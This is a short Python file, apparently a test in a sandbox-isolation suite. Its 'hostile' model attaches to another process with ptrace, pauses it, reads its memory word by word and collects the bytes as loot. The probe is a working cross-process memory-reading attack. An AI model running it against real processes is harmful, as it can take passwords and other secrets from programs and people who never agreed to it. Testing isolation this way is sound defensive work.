"""Traces another process and reads its memory word by word."""

import ctypes

from hostile import Hostile, libc

SEIZE, PEEK = 0x4206, 2


class Model(Hostile):
    def attack(self):
        trace = libc().ptrace
        trace.restype = ctypes.c_long
        trace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        if trace(SEIZE, self.pid, None, None) != 0:
            return
        self.tell("REACHED: it is traced")
        import os
        import signal

        interrupt, detach = 0x4207, 17
        trace(interrupt, self.pid, None, None)
        os.waitpid(self.pid, 0x40000000)
        words = [trace(PEEK, self.pid, self.address + at, None) for at in range(0, self.length, 8)]
        trace(detach, self.pid, None, None)
        os.kill(self.pid, signal.SIGCONT)
        self.loot(b"".join((word & (2**64 - 1)).to_bytes(8, "little") for word in words)[: self.length])
